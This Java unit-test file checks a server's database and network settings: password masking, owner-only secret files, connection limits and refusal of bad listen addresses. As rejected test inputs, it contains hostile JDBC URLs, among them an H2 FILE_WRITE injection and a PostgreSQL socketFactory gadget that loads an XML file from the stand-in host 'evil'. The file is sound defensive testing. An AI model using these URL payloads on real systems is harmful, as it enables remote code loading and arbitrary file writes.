package org.overlaygate.katar.server;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertThrows;
import static org.junit.Assert.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Map;

import org.junit.Test;

/** Settings that concern secrets and limits: refused combinations, password files, owner-only storage. */
public class KatarSettingsTest {

    @Test
    public void aPasswordOrUserWithoutAUrlIsRefusedNotAServerDown() {
        for (String name : new String[] {"jdbc.password", "jdbc.user", "jdbc.password.file"}) {
            IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                    () -> KatarSettings.from(Map.of(name, "x"), n -> null, Path.of("/tmp/data")));
            assertTrue(e.getMessage(), e.getMessage().startsWith("katar settings jdbc.user and jdbc.password need jdbc.url"));
            assertTrue("the message never shows the value", !e.getMessage().contains("=x"));
        }
        IllegalArgumentException framework = assertThrows(IllegalArgumentException.class,
                () -> KatarSettings.from(Map.of(), n -> n.equals("overlaygate.katar.jdbc.password") ? "hunter2" : null, Path.of("/tmp/data")));
        assertTrue(framework.getMessage().startsWith("katar settings jdbc.user and jdbc.password need jdbc.url"));
        assertTrue(!framework.getMessage().contains("hunter2"));
    }

    @Test
    public void thePasswordComesFromItsFileAndIsNeverShown() throws Exception {
        Path dir = Files.createTempDirectory("katar-secret");
        try {
            Path file = dir.resolve("pw");
            KatarCommands.writeOwnerOnly(file, "s3cret pass");
            assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(file)));
            assertEquals("s3cret pass\n", Files.readString(file, StandardCharsets.UTF_8));
            try (var left = Files.list(dir)) {
                assertEquals("no temporary file left", 1, left.count());
            }
            KatarSettings s = KatarSettings.from(Map.of("jdbc.url", "jdbc:postgresql://db:5432/katar", "jdbc.user", "katar",
                    "jdbc.password.file", file.toString()), n -> null, null);
            assertEquals("s3cret pass", s.jdbcPassword());
            assertEquals("***", s.value("jdbc.password"));
            assertEquals(file.toString(), s.value("jdbc.password.file"));
            assertTrue("toString masks it: " + s, !s.toString().contains("s3cret"));

            assertEquals("katar settings jdbc.password and jdbc.password.file exclude each other", assertThrows(IllegalArgumentException.class,
                    () -> KatarSettings.from(Map.of("jdbc.url", "jdbc:postgresql://db/k", "jdbc.password", "x", "jdbc.password.file",
                            file.toString()), n -> null, null)).getMessage());
            assertEquals("katar setting jdbc.password.file: cannot read " + dir.resolve("none") + ": no such file",
                    assertThrows(IllegalArgumentException.class, () -> KatarSettings.from(Map.of("jdbc.url", "jdbc:postgresql://db/k",
                            "jdbc.password.file", dir.resolve("none").toString()), n -> null, null)).getMessage());
        } finally {
            TestServers.delete(dir);
        }
    }

    @Test
    public void connectionLimitsAreSettings() {
        KatarSettings s = KatarSettings.from(Map.of("max.connections.per.address", "5", "idle.timeout.ms", "1000"), n -> null, Path.of("/tmp/d"));
        assertEquals(5, s.limits().maxConnectionsPerAddress());
        assertEquals(1000, s.limits().idleTimeoutMs());
        assertEquals("64 by default", 64, KatarSettings.from(Map.of(), n -> null, Path.of("/tmp/d")).limits().maxConnectionsPerAddress());
        assertEquals(128, KatarSettings.from(Map.of(), n -> null, Path.of("/tmp/d")).limits().reserved());
    }

    private static String refusal(String name, String value) {
        return assertThrows(IllegalArgumentException.class, () -> KatarSettings.from(Map.of(name, value), n -> null, Path.of("/tmp/d")))
                .getMessage();
    }

    /** Issue 23, item 3: katar:config "jdbc.url=jdbc:h2:mem:x;INIT=CALL FILE_WRITE(...)" wrote any file. */
    @Test
    public void onlyPostgresqlUrlsWithoutParametersThatRunCodeOrWriteFiles() {
        assertEquals("katar setting jdbc.url: the embedded H2 database is the appliance's own and not a setting; leave jdbc.url empty for it,"
                + " or give jdbc:postgresql://HOST:5432/DB", refusal("jdbc.url", "jdbc:h2:mem:x;INIT=CALL FILE_WRITE('x', '/tmp/p.jar')"));
        assertEquals("katar setting jdbc.url: only PostgreSQL URLs are accepted (jdbc:postgresql://HOST:5432/DB)",
                refusal("jdbc.url", "jdbc:derby:x;create=true"));
        assertEquals("katar setting jdbc.url: parameter socketFactory is refused: it makes the driver load code",
                refusal("jdbc.url", "jdbc:postgresql://db/k?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
                        + "&socketFactoryArg=http://evil/x.xml"));
        assertEquals("katar setting jdbc.url: parameter SSLFACTORY is refused: it makes the driver load code",
                refusal("jdbc.url", "jdbc:postgresql://db/k?sslmode=require&SSLFACTORY=x.Y"));
        assertEquals("katar setting jdbc.url: parameter loggerFile is refused: it makes the driver write files",
                refusal("jdbc.url", "jdbc:postgresql://db/k?loggerFile=/opt/overlaygate/plugins.d/x.jar"));
        assertEquals("URL-encoded names are decoded first", "katar setting jdbc.url: parameter socketFactory is refused: it makes the driver"
                + " load code", refusal("jdbc.url", "jdbc:postgresql://db/k?socket%46actory=x"));
        assertTrue(refusal("jdbc.url", "jdbc:postgresql://db/k?service=x").startsWith(
                "katar setting jdbc.url: parameter 'service' is not one katar accepts ("));
        KatarSettings ok = KatarSettings.from(Map.of("jdbc.url", "jdbc:postgresql://db1:5432,db2:5432/katar?sslmode=verify-full"
                + "&connectTimeout=5&targetServerType=primary"), n -> null, null);
        assertEquals("jdbc:postgresql://db1:5432,db2:5432/katar?sslmode=verify-full&connectTimeout=5&targetServerType=primary",
                ok.value("jdbc.url"));
    }

    /** Issue 23, item 5: a secret in the URL was shown in the log, katar:config, scr:info and the console. */
    @Test
    public void urlsThatCarryCredentialsAreRefusedWithoutShowingThem() {
        for (String url : new String[] {"jdbc:postgresql://db/k?user=katar&password=hunter2", "jdbc:postgresql://db/k?sslpassword=hunter2",
                "jdbc:postgresql://katar:hunter2@db/k", "jdbc:postgresql://db/k?PassWord=hunter2"}) {
            String message = refusal("jdbc.url", url);
            assertTrue(message, message.startsWith("katar setting jdbc.url: "));
            assertTrue(message, message.contains("jdbc.password"));
            assertTrue("never the secret: " + message, !message.contains("hunter2"));
            assertTrue("never the URL: " + message, !message.contains("db/k"));
        }
        // Wherever a URL is printed, what could be a secret is masked.
        assertEquals("jdbc:postgresql://***@db/k?user=u&password=***&sslpassword=***",
                org.overlaygate.katar.server.store.JdbcUrls.masked("jdbc:postgresql://a:b@db/k?user=u&password=x&sslpassword=y"));
    }

    /** Issue 23, item 8: katar:config listen.address=224.0.0.1 was accepted. */
    @Test
    public void listenAddressesNoServerCanListenOnAreRefused() {
        assertEquals("katar setting listen.address: 224.0.0.1 is a multicast address, not an address of this host to listen on",
                refusal("listen.address", "224.0.0.1"));
        assertEquals("katar setting listen.address: 255.255.255.255 is the broadcast address, not an address of this host to listen on",
                refusal("listen.address", "255.255.255.255"));
        assertEquals("katar setting listen.address: 240.0.0.1 is a reserved (class E) address, not an address of this host to listen on",
                refusal("listen.address", "240.0.0.1"));
        assertTrue(refusal("listen.address", "ff02::1").contains("is a multicast address"));
        assertEquals("0.0.0.0", KatarSettings.from(Map.of("listen.address", "0.0.0.0"), n -> null, Path.of("/tmp/d")).value("listen.address"));
    }

    @Test
    public void aHostsLogIsItsOwnUnlessTheOperatorTrustsNamedAddresses() {
        assertEquals("false", KatarSettings.from(Map.of(), n -> null, Path.of("/tmp/d")).value("log.trust.named.address"));
        assertEquals("true", KatarSettings.from(Map.of("log.trust.named.address", "true"), n -> null, Path.of("/tmp/d"))
                .value("log.trust.named.address"));
        assertEquals("katar setting log.trust.named.address = 'yes' is not true or false", refusal("log.trust.named.address", "yes"));
    }
}
